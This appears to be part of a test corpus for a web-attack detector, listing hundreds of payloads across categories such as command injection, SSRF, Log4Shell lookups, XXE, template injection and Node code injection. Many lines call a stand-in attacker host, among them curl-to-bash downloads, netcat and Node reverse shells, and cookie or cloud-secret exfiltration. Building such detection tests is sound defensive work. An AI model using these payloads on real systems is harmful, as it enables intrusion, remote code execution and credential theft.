q('file', '..%c1%9c..%c1%9c..%c1%9cwindows/win.ini', 'overlong backslash', '/download');
p('/..%5c..%5cwindows%5cwin.ini', 'encoded backslash in path');
q('file', '/etc/issue', 'absolute issue file', '/download');
q('page', 'php://filter/read=convert.base64-encode/resource=/etc/passwd', 'php filter absolute', '/index.php');
q('file', '..\\..\\..\\..\\..\\..\\inetpub\\wwwroot\\web.config', 'IIS web.config', '/download');
q('file', '/proc/self/fd/0', 'proc fd', '/download');
q('download', '../../../../../../var/www/html/config.php', 'web root config', '/get');
q('lang', '../../../../../../../../windows/system32/drivers/etc/hosts', 'Windows hosts', '/');
q('template', '....\\/....\\/....\\/etc/passwd', 'escaped mixed separators', '/render');
p('/static/%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini', 'encoded dot-dot-backslash in path');
p('/api/files/..%252f..%252fetc/passwd', 'double-encoded in API path');
json('{"path":"/etc/passwd"}', 'absolute path in JSON', '/api/files/read');
json('{"file":"/var/log/nginx/access.log"}', 'log file in JSON', '/api/files/read');
json('{"logo":"../../../../../../proc/self/environ"}', 'environ via logo', '/api/branding');
q('file', '.../.../.../etc/passwd', 'triple dots', '/download');
q('file', '/%5C../%5C../%5C../%5C../etc/passwd', 'slash backslash dots', '/download');
q('file', '..%5C..%5C..%5C..%5Cwindows%5Csystem.ini', 'upper-case hex backslashes', '/download');
q('file', '..%2F..%2F..%2F..%2Fetc%2Fpasswd', 'upper-case hex slashes', '/download');
q('file', '%2fetc%2fpasswd', 'double-encoded absolute path', '/download');
q('file', '\\..\\..\\..\\etc\\passwd', 'leading backslash', '/download');
h('x-original-url', '/../../../../etc/passwd', 'X-Original-URL');
ck('path', '....//....//etc/passwd', 'filter bypass in cookie');

category = 'cmdi';
q('cmd', '; ls', 'semicolon ls', '/tools');
q('cmd', '| ls', 'pipe ls', '/tools');
q('cmd', '|| ls', 'or ls', '/tools');
q('cmd', '& ls', 'background ls', '/tools');
q('cmd', '&& ls', 'and ls', '/tools');
q('cmd', '`ls`', 'backtick ls', '/tools');
q('cmd', '$(ls)', 'dollar ls', '/tools');
q('cmd', '; ls; pwd; whoami', 'recon chain', '/tools');
q('cmd', '| ls | grep flag', 'grep flag', '/tools');
q('cmd', '&& cat flag.txt', 'read flag', '/tools');
q('cmd', '; cat /etc/passwd | grep root', 'grep root', '/tools');
q('host', '\ncat /etc/passwd', 'newline cat', '/ping');
q('host', 'a\nid', 'newline id', '/ping');
q('host', '|| ping -c 10 127.0.0.1 ||', 'ping between ors', '/ping');
q('host', '; ping -c 5 $(hostname).attacker.example', 'hostname exfil via ping', '/ping');
q('host', 'x||nslookup attacker.example||', 'nslookup between ors', '/ping');
q('data', '$(echo${IFS}dGVzdA==|base64${IFS}-d)', 'base64 decode with IFS', '/echo');
q('url', ';curl${IFS}attacker.example', 'curl with IFS', '/fetch');
q('host', '& whoami & ', 'spaced ampersands', '/ping');
q('page', '<!--#exec cmd="id"-->', 'server-side include exec', '/page.shtml');
q('dir', '| cmd /c dir', 'cmd /c', '/browse');
q('user', '& net user hacker P@ss123 /add', 'Windows add user', '/admin');
q('host', '| whoami /all', 'whoami all', '/ping');
q('host', ";/bin/sh -c 'id'", 'sh -c', '/ping');
q('name', '$(nc -e /bin/sh attacker.example 4444)', 'netcat in substitution', '/hello');
q('name', '`curl attacker.example`', 'curl in backticks', '/hello');
q('host', '127.0.0.1\n\rwhoami', 'LF CR whoami', '/ping');
q('expr', ";perl -e 'print \"x\"'", 'perl one-liner', '/calc');
json('{"name":"test$(id)"}', 'substitution in JSON name', '/api/users');
form({ host: 'localhost&&id' }, 'glued and id', '/ping');
h('user-agent', '; curl attacker.example/x | bash', 'curl bash in user agent');
ck('cmd', '|cat /etc/passwd', 'pipe cat in cookie');
p('/api/exec/%3Bwhoami', 'encoded semicolon in path');
json('{"host":"127.0.0.1 `sleep 5`"}', 'backticks after space in JSON', '/api/diagnostics/ping');
text(';sleep 10;', 'text body sleep');

category = 'ssrf';
q('url', 'http://127.0.0.1:22', 'loopback ssh port', '/fetch');
q('url', 'http://localhost:5984/_all_dbs', 'CouchDB', '/fetch');
q('url', 'http://[::]:80/', 'IPv6 unspecified', '/fetch');
q('url', 'http://0000::1:80/', 'malformed IPv6 without brackets', '/fetch');
q('url', 'http://127.127.127.127', 'other loopback', '/fetch');
q('url', 'http://127.0.1.3', 'loopback variant', '/fetch');
q('url', 'http://0x7f.1/', 'hex short form', '/fetch');
q('url', 'http://2852039166/', 'decimal metadata IP', '/fetch');
q('url', 'http://0xa9fea9fe/', 'hex metadata IP', '/fetch');
q('url', 'http://0251.0376.0251.0376/', 'octal metadata IP', '/fetch');
q('url', 'http://169.254.169.254.nip.io/', 'wildcard DNS metadata', '/fetch');
q('url', 'http://metadata/computeMetadata/v1/', 'short GCP metadata name', '/fetch');
q('url', 'http://[::ffff:a9fe:a9fe]/latest/meta-data/', 'IPv4-mapped metadata', '/fetch');
q('url', 'http://localhost.localdomain/', 'localdomain', '/fetch');
q('url', 'http://127.0.0.1:6379/', 'Redis', '/fetch');
q('url', 'gopher://localhost:11211/_stats', 'gopher memcached', '/fetch');
q('url', 'ldap://127.0.0.1:389/%0astats%0aquit', 'ldap smuggling', '/fetch');
q('url', 'tftp://attacker.example:69/x', 'tftp', '/fetch');
q('url', 'sftp://attacker.example:11111/', 'sftp', '/fetch');
q('url', 'file://localhost/etc/passwd', 'file with host', '/fetch');
q('url', 'file:/etc/passwd', 'file single slash', '/fetch');
q('url', 'http://example.com@169.254.169.254/', 'userinfo metadata', '/fetch');
q('url', 'http://169.254.169.254#@example.com/', 'fragment confusion', '/fetch');
q('url', 'http://0177.1/', 'octal short form', '/fetch');
q('url', 'http://00000177.00000000.00000000.00000001/', 'padded octal', '/fetch');
q('url', 'http://127.000.000.1/', 'zero-padded loopback', '/fetch');
q('url', 'https://127.0.0.1.sslip.io/', 'sslip.io', '/fetch');
q('url', 'http://customer1.app.localhost/', 'localhost subdomain', '/fetch');
q('url', 'http://192.168.0.1:8080/admin', 'private admin panel', '/fetch');
q('url', 'http://10.10.10.10/', 'private 10/8', '/fetch');
q('url', 'http://[fe80::1%25eth0]/', 'link-local IPv6 with zone', '/fetch');
json('{"url":"http://127.0.0.1:9000/"}', 'JSON loopback', '/api/preview');
json('{"icon":"http://[::1]/"}', 'JSON IPv6 loopback', '/api/apps');
json('{"importUrl":"file:///C:/Windows/win.ini"}', 'JSON file Windows', '/api/import');
h('x-forwarded-host', '169.254.169.254', 'metadata in X-Forwarded-Host');
q('dest', 'http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/', 'enclosed alphanumeric metadata', '/fetch');

category = 'jndi';
h('user-agent', '${jndi:ldap://attacker.example:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZAo=}', 'JNDIExploit command');
h('x-api-version', '${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//attacker.example/a}', 'env defaults');
q('q', '${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://attacker.example/a}', 'mixed lookups');
h('referer', '${${upper::-j}ndi:ldap://attacker.example/a}', 'upper with default');
q('q', '$%7Bjndi:ldap://attacker.example/a%7D', 'encoded braces');
h('user-agent', '${jndi:ldap://attacker.example/${java:version}}', 'java version exfiltration');
h('x-forwarded-for', '${jn${lower:d}i:l${lower:d}ap://attacker.example/a}', 'split lookups');
q('q', "${${upper:j}${lower:n}${::-d}${date:'i'}:ldap://attacker.example/a}", 'four different lookups');
h('user-agent', '${${::-J}${::-N}${::-D}${::-I}:${::-L}${::-D}${::-A}${::-P}://attacker.example/a}', 'upper-case defaults');
h('referer', '${jndi:ldap://127.0.0.1#.${hostName}.attacker.example/a}', 'localhost bypass with exfiltration');
h('x-api-version', '${j${k8s:k5:-ND}i${sd:k5:-:}${lower:l}d${lower:a}${lower:p}://attacker.example/a}', 'k8s and sd lookups');
h('user-agent', '${jndi:ldap://[::1]:1389/a}', 'IPv6 LDAP');
json('{"query":"${jndi:ldap://attacker.example/a}"}', 'JSON query field', '/api/search');
h('user-agent', '${JNDI:LDAP://attacker.example/a}', 'upper case');
h('x-forwarded-for', '${${sys:sun.cpu.isalist}jndi:ldap://attacker.example/a}', 'empty system property prefix');
ck('remember_me', '${jndi:ldap://attacker.example/r}', 'remember-me cookie');
form({ comment: 'hello ${jndi:ldap://attacker.example/c} world' }, 'embedded in comment');

category = 'nosqli';
qs({ 'username[$ne]': 'admin', 'password[$ne]': 'pass' }, 'ne both');
text('{"username": {"$gt": undefined}, "password": {"$gt": undefined}}', 'undefined literal (not JSON)', 'application/json', '/api/login');
json('{"$and":[{"username":"admin"},{"password":{"$regex":"^p"}}]}', 'and with regex', '/api/login');
json('{"username":{"$regex":"admin","$options":"i"}}', 'regex options', '/api/login');
json('{"age":{"$lt":100000}}', 'lt', '/api/users/find');
json('{"username":{"$nin":["a"]}}', 'nin', '/api/login');
json('{"$expr":{"$eq":["$username","admin"]}}', 'expr eq', '/api/login');
q('user', "admin'&&this.password.match(/^a.*$/)\u0000", 'password prefix extraction', '/login');
q('q', "';return 'a'=='a' && ''=='", 'return tautology');
q('q', "' || 1==1//", 'or tautology with comment');
q('q', "1'; sleep(3000); var x='", 'sleep statement');
json('{"username":"admin","password":{"$regex":"^.{8}$"}}', 'password length', '/api/login');
form({ 'user[$regex]': '^adm', 'pass[$ne]': '1' }, 'urlencoded regex', '/login');
qs({ 'email[$gt]': '' }, 'gt empty', '/api/users');

category = 'proto_pollution';
qs({ '__proto__[test]': 'test' }, 'test probe', '/');
qs({ '__proto__.test': 'test' }, 'dotted probe', '/');
qs({ 'constructor.prototype.test': 'test' }, 'constructor probe', '/');
qs({ '__proto__[isAdmin]': '1', '__proto__[role]': 'admin' }, 'two keys', '/api/settings');
qs({ '__proto__[transport_url]': 'data:,alert(1);//' }, 'client-side gadget', '/');
qs({ '__proto__[hitCallback]': 'alert(document.domain)' }, 'analytics gadget', '/');
json('{"__proto__": {"isAdmin": true, "toString": "x"}}', 'toString clobbering', '/api/profile', 'PUT');
json('{"user":{"name":"x","constructor":{"prototype":{"admin":true}}}}', 'nested constructor', '/api/profile', 'PUT');
json('{"a":1,"__proto__":{"b":2}}', 'alongside normal key', '/api/merge');
json('{"__proto__":{"sourceURL":"\\u2028\\u2029\\nglobal.process.mainModule.require(\'child_process\').execSync(\'id\')"}}', 'lodash template gadget', '/api/render');
qs({ 'a[constructor][prototype][b]': 'c' }, 'nested brackets', '/api/settings');
json('{"__proto__.polluted":true}', 'flat dotted key', '/api/config');
qs({ '__proto__[polluted]': '1' }, 'decoded bracket key', '/');
json('{"constructor":{"prototype":null}}', 'null prototype', '/api/merge');

category = 'xxe';
xml("<?xml version=\"1.0\"?><!DOCTYPE root [<!ENTITY test SYSTEM 'file:///etc/passwd'>]><root>&test;</root>", 'single-quoted system id');
xml('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://internal.service/secret">]><foo>&xxe;</foo>', 'internal service');
xml('<!DOCTYPE foo [<!ENTITY % a SYSTEM "file:///etc/passwd"><!ENTITY % b "<!ENTITY c SYSTEM \'http://attacker.example/?%a;\'>">%b;]><foo>&c;</foo>', 'nested parameter entities');
xml('<?xml version="1.0"?><!DOCTYPE message [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\'>%local_dtd;]><message></message>', 'local DTD reuse');
xml('<?xml version="1.0"?><!DOCTYPE data SYSTEM "file:///etc/passwd"><data/>', 'file as external DTD');
text('<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html>&x;</html>', 'XXE in HTML upload', 'text/html', '/api/v1/pages');
xml('<!DoCtYpE foo [<!EnTiTy xxe SyStEm "file:///etc/passwd">]><foo>&xxe;</foo>', 'mixed-case keywords');
xml('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>', 'SVG with entity', '/api/v1/avatar', 'image/svg+xml');
xml('<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM "http://attacker.example/"> %dtd;]><xxx/>]]></foo></soap:Body></soap:Envelope>', 'DOCTYPE inside CDATA', '/soap', 'text/xml');
form({ xml: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hosts">]><r>&e;</r>' }, 'form-encoded XML', '/api/xml');

category = 'crlf';
p('/%0d%0aX-Injected-Header:%20true', 'custom header in path');
q('lang', 'en\r\nX-Test: injected', 'x- header in query', '/');
q('q', '\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>', 'content type then body');
p('/%E5%98%8D%E5%98%8ASet-Cookie:crlfinjection=crlfinjection', 'unicode CR LF reversed');
q('q', '嘍嘊Location: https://evil.example', 'unicode reversed location');
q('returnUrl', '\r\nLocation:javascript:alert(1)', 'location javascript', '/login');
p('/%3f%0d%0aLocation:%0d%0aContent-Type:text/html%0d%0aX-XSS-Protection%3a0%0d%0a%0d%0a%3Cscript%3Ealert%28document.domain%29%3C/script%3E', 'full splitting in path');
p('/%u000ASet-Cookie:x=1', '%u LF in path');
p('/%0d%0a%20Set-Cookie:x=1', 'folded header in path');
ck('locale', 'en\r\nSet-Cookie: x=1', 'cookie CRLF');
h('x-forwarded-proto', 'https%0d%0aSet-Cookie:x=1', 'encoded CRLF in X-Forwarded-Proto');

category = 'scanner';
h('user-agent', 'sqlmap/1.4.7#stable (http://sqlmap.org)', 'older sqlmap');
h('user-agent', 'Mozilla/5.0 (compatible; Nikto/2.5.0)', 'Nikto 2.5');
h('user-agent', 'Wfuzz/2.4', 'wfuzz 2.4');
h('user-agent', 'Arachni/v2.0dev', 'Arachni dev');
h('user-agent', "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers' presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com", 'Expanse');
h('user-agent', 'l9explore/1.2.2', 'LeakIX');
h('user-agent', 'masscan-ng/1.3', 'masscan-ng');
p('/.git/index', 'git index probe');
p('/config/.env', 'nested env probe');
p('/.vscode/sftp.json', 'editor credentials probe');
h('x-scanner', 'Burp', 'X-Scanner Burp');
json('{"avatar":"https://a8f3k1.oast.site/x.png"}', 'oast.site', '/api/profile', 'PUT');

// =============================================================================================
// Round 3: held out -- written and measured once (61 of 62 found before any change; the miss,
// CASE WHEN in a sort parameter, led to a new rule). Payload shapes from PortSwigger labs.

category = 'sqli';
q('id', "1' and (select 1 from(select count(*),concat((select database()),floor(rand(0)*2))x from information_schema.tables group by x)a)-- -", 'floor(rand) error-based', '/item');
q('user', "admin' or 1=1 limit 1;#", 'limit and hash comment', '/login');
q('id', '1 AND 1=(SELECT COUNT(*) FROM tablenames); --', 'count subquery', '/item');
q('category', "Gifts' OR 1=1--", 'PortSwigger hidden data', '/filter');
ck('TrackingId', "xyz' AND (SELECT 'a' FROM users LIMIT 1)='a", 'blind subquery in tracking cookie', '/');
ck('TrackingId', "x'||pg_sleep(10)--", 'PostgreSQL concat sleep in cookie', '/');
q('id', '1 AND 2>1', 'greater-than condition', '/item');
q('q', "'; DECLARE @q varchar(99);SET @q='\\\\attacker.example\\x'; exec master.dbo.xp_dirtree @q;--", 'MSSQL xp_dirtree exfiltration');
q('id', '-1 union/**/select/**/1,2,3', 'comments as spaces', '/item');
json('{"email":"a@b.c\' UNION SELECT NULL,NULL--"}', 'union in JSON email', '/api/users/lookup');
q('id', "1' AND ASCII(SUBSTR((SELECT password FROM users WHERE username='administrator'),1,1))>'m", 'blind character comparison', '/item');
q('sort', '(CASE WHEN (1=1) THEN name ELSE price END)', 'conditional sort column', '/products');

category = 'xss';
q('q', '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>X</text></a>', 'svg animate values');
q('q', '<a href="javascript:void(0)" onmouseover=alert(1)>x</a>', 'void link with handler');
q('q', '<img src=x onerror=this.src="http://attacker.example/?c="+document.cookie>', 'cookie exfiltration via src');
q('search', '"><img src=1 onerror=print()>', 'print() probe', '/blog');
q('q', '</script><img/src/onerror=alert(1)>', 'slash-separated attributes');
q('q', '<iframe/src="data:text/html,<svg onload=alert(1)>">', 'iframe data URL');
q('q', '<svg onload=setTimeout`alert\\x281\\x29`>', 'setTimeout template');
json('{"comment":"<p style=\\"x\\" onclick=\\"fetch(`//attacker.example?${document.cookie}`)\\">hi</p>"}', 'stored handler with fetch', '/api/comments');
q('q', 'javascript:eval(atob("YWxlcnQoMSk="))', 'base64 eval URL');
q('callback', 'alert(document.domain)//', 'JSONP callback', '/api/jsonp');

category = 'path_traversal';
q('file', '..%2F..%2F..%2F..%2F..%2Fetc%2Fgroup', 'double-encoded group', '/download');
q('image', '....//....//....//etc/hosts', 'stripped-sequence bypass', '/image');
q('filename', '../../../../../../../../../../boot.ini', 'boot.ini', '/download');
p('/static/%252e%252e/%252e%252e/%252e%252e/etc/passwd', 'double-encoded dots in path');
q('f', 'file:///c:/windows/win.ini', 'file URL to win.ini', '/preview');
q('include', '/var/www/../../etc/shadow', 'absolute prefix then traversal', '/page');
json('{"template":"..\\\\..\\\\..\\\\..\\\\..\\\\Windows\\\\System32\\\\config\\\\SAM"}', 'SAM via template', '/api/render');

category = 'cmdi';
q('ip', '8.8.8.8|curl attacker.example/s.sh|bash', 'pipe to bash', '/ping');
q('ip', '127.0.0.1&&cat /etc/passwd', 'glued and', '/ping');
q('name', 'x;wget -qO- attacker.example|sh', 'wget pipe sh', '/hello');
q('file', 'a.txt;id>/tmp/x', 'redirected output', '/view');
q('host', '$(ping -c 15 attacker.example)', 'ping in substitution', '/ping');
json('{"target":"`nc attacker.example 9001 -e sh`"}', 'netcat in backticks', '/api/scan');
q('q', '|| uname -a #', 'uname with comment', '/tools');
h('user-agent', '() { ignored; }; echo Content-Type: text/plain ; echo ; /bin/cat /etc/passwd', 'Shellshock with a word body', '/cgi-bin/status');

category = 'ssrf';
q('url', 'http://0x7f.0.0.1:8080/admin', 'hex first octet', '/fetch');
q('url', 'http://[::ffff:7f00:1]/', 'hex IPv4-mapped', '/fetch');
q('url', 'http://169.254.169.254/computeMetadata/v1/', 'metadata path', '/fetch');
json('{"webhook":"http://localhost:9200/_search"}', 'Elasticsearch via webhook', '/api/webhooks');
q('image_url', 'https://192.168.100.1/secret.png', 'private image URL', '/api/thumbnail');
q('u', 'gopher://127.0.0.1:3306/_%a3%00%00%01', 'gopher MySQL', '/fetch');
q('url', 'http://127.0.0.1%2523@example.com/', 'encoded fragment confusion', '/fetch');

category = 'jndi';
h('x-api-version', '${${lower:J}ndi:${lower:L}dap://attacker.example/a}', 'lower on capitals');
h('referer', '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}', 'secret exfiltration');
json('{"name":"${${upper:j}ndi:dns://attacker.example}"}', 'upper j in JSON', '/api/profile', 'PUT');

category = 'nosqli';
json('{"username":"admin","password":{"$regex":"^a"}}', 'regex password probe', '/api/login');
qs({ 'user[$eq]': 'admin', 'pass[$exists]': 'true' }, 'eq and exists');
q('q', '{"$where": "this.credits == this.debits"}', '$where JSON in query', '/api/items');
json('{"filter":{"$or":[{"a":1},{"b":{"$gt":0}}]}}', 'or with gt', '/api/items/find');

category = 'proto_pollution';
qs({ '__proto__[polluted]': 'true' }, 'polluted probe', '/');
json('{"user":{"__proto__":{"isAdmin":true}}}', 'nested isAdmin', '/api/profile', 'PUT');
qs({ 'x.__proto__.y': '1' }, 'dotted nested', '/api/settings');

category = 'xxe';
xml('<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY % sp SYSTEM "http://attacker.example/sp.dtd">\n%sp;\n%param1;\n]>\n<r>&exfil;</r>', 'out-of-band with line breaks');
xml('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE foo [<!ENTITY example SYSTEM "/etc/passwd"> ]><stockCheck><productId>&example;</productId></stockCheck>', 'PortSwigger stock check', '/product/stock');

category = 'crlf';
q('next', '%0d%0aSet-Cookie:admin=true', 'double-encoded set-cookie', '/login');
p('/en%0D%0ALocation:%20https://attacker.example/', 'location after language segment');
q('lang', 'fr\r\nX-Frame-Options: ALLOWALL', 'frame options override', '/');

category = 'scanner';
h('user-agent', 'Mozilla/5.0 (compatible; Nuclei)', 'Nuclei compatible');
h('user-agent', 'sqlmap/1.6.12#stable (https://sqlmap.org)', 'sqlmap 1.6');
p('/.git/logs/HEAD', 'git logs probe');

// ---------------------------------------------------------------------------------------------
// Round 4 (ruleset 2.0.0): the two Node-relevant categories, written by someone other than the
// author of their detectors and before those were finished (held out).
category = 'js_injection';
q('expr', "require('child_process').execSync('id').toString()", 'child_process execSync', '/calc');
q('expr', 'require("child_process").exec("curl http://attacker.example/x | sh")', 'child_process exec with double quotes', '/calc');
q('q', "process.mainModule.require('child_process').execSync('cat /etc/passwd')", 'mainModule require', '/eval');
q('filter', "this.constructor.constructor('return process')().mainModule.require('fs').readdirSync('.')", 'constructor chain to process');
q('sort', "[].constructor.constructor('return this.process.env')()", 'array constructor Function');
q('x', "global.process.mainModule.constructor._load('child_process').exec('id')", 'global process _load');
q('x', "globalThis.process.kill(globalThis.process.pid)", 'globalThis process kill');
q('callback', "res.end(require('fs').readFileSync('/etc/passwd'))", 'response with file contents', '/jsonp');
q('code', "require('fs').writeFileSync('/tmp/pwn.js', 'x')", 'fs write');
q('data', "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id']})", 'process.binding spawn_sync');
q('v', "Function('return process')().exit()", 'Function constructor then exit');
q('v', "new Function('return require')()('child_process').execSync('id')", 'new Function require');
q('v', "import('child_process').then(m=>m.execSync('id'))", 'dynamic import child_process');
q('v', "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdpZCcp','base64').toString())", 'eval of base64 buffer');
q('v', "';require('child_process').exec('sleep 10');'", 'string breakout into require');
q('name', "\"+require('child_process').execSync('whoami')+\"", 'concatenation breakout');
q('name', "${require('child_process').execSync('id')}", 'template literal require');
q('v', "vm.runInNewContext('this.constructor.constructor(\"return process\")()')", 'vm escape');
q('v', "require('net').connect(4444,'203.0.113.9',function(){this.pipe(require('child_process').spawn('/bin/sh').stdin)})", 'reverse shell with net');
q('v', "process.env.AWS_SECRET_ACCESS_KEY", 'environment read');
q('v', "child_process.spawnSync('ls',['-la'])", 'spawnSync');
q('v', "setTimeout('require(\"child_process\").exec(\"id\")',0)", 'setTimeout string');
json('{"filter":{"$where":"1"},"expr":"require(\'child_process\').execSync(\'id\')"}', 'require in JSON expression', '/api/v1/rules');
json('{"template":"x","options":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');s"}}', 'EJS outputFunctionName', '/api/v1/render');
json('{"code":"this.constructor.constructor(\'return process\')().exit()"}', 'sandbox escape in JSON', '/api/v1/sandbox');
json('{"script":"global.process.mainModule.require(\'fs\').readFileSync(\'/etc/shadow\',\'utf8\')"}', 'read shadow', '/api/v1/scripts');
form({ formula: "=require('child_process').exec('calc')" }, 'formula field', '/sheets');
form({ q: "1;return process.env" }, 'return process.env', '/search');
h('x-callback', "require('child_process').exec('nslookup x.attacker.example')", 'require in custom header');
ck('prefs', "{\"theme\":\"require('child_process').execSync('id')\"}", 'require in JSON cookie');
q('v', "require ( 'child_process' ) . exec ( 'id' )", 'spaced require');
q('v', "require(`child_process`).execSync(`id`)", 'backtick require');

category = 'ssti';
q('name', '{{7*7}}', 'Jinja/Twig arithmetic probe', '/greet');
q('name', '${7*7}', 'EL/Freemarker probe', '/greet');
q('name', '<%= 7*7 %>', 'EJS/ERB probe', '/greet');
q('name', '#{7*7}', 'Pug/Ruby interpolation probe', '/greet');
q('name', "{{7*'7'}}", 'Jinja vs Twig discriminator', '/greet');
q('name', '${{7*7}}', 'dollar double brace probe', '/greet');
q('name', '*{7*7}', 'Thymeleaf selection probe', '/greet');
q('name', '[[${7*7}]]', 'Thymeleaf inline probe', '/greet');
q('name', '@(7*7)', 'Razor probe', '/greet');
q('name', '{{ 1337 * 1337 }}', 'spaced arithmetic', '/greet');
q('q', "{{''.__class__.__mro__[1].__subclasses__()}}", 'Jinja MRO walk');
q('q', "{{config.items()}}", 'Flask config dump');
q('q', "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}", 'Jinja globals to os');
q('q', "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", 'Flask request globals');
q('q', "{% import os %}{{ os.system('id') }}", 'Jinja statement import');
q('q', "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}", 'Nunjucks range constructor');
q('q', "{{constructor.constructor('return process')()}}", 'Handlebars/Angular-like constructor');
q('q', '<%= global.process.mainModule.require("child_process").execSync("id") %>', 'EJS RCE');
q('q', '#{global.process.mainModule.require("child_process").execSync("id")}', 'Pug RCE');
q('q', '${T(java.lang.Runtime).getRuntime().exec("id")}', 'Spring EL runtime');
q('q', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', 'Freemarker Execute');
q('q', '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))', 'Velocity runtime');
q('q', '{{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}', 'Handlebars with-gadget');
q('q', "{{ '/etc/passwd' | file_excerpt(1,30) }}", 'Twig filter file read');
q('q', "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}", 'Twig register callback');
json('{"subject":"Hello {{7*7}}","body":"x"}', 'probe in JSON e-mail template', '/api/v1/mail/preview');
json('{"title":"<%= process.env.SECRET %>"}', 'EJS env read', '/api/v1/pages');
form({ greeting: '{{4*4}}[[5*5]]' }, 'polyglot probe', '/cards');
h('x-forwarded-host', '{{7*7}}.example.com', 'probe in a host header');
ck('name', '${7*191}', 'probe in a cookie');
q('q', '{{ [].__class__.__base__.__subclasses__() }}', 'list base subclasses');
q('q', '%{(#a=@java.lang.Runtime@getRuntime().exec("id"))}', 'OGNL expression');

export function attackEntries(): CorpusEntry[] {
  return out;
}
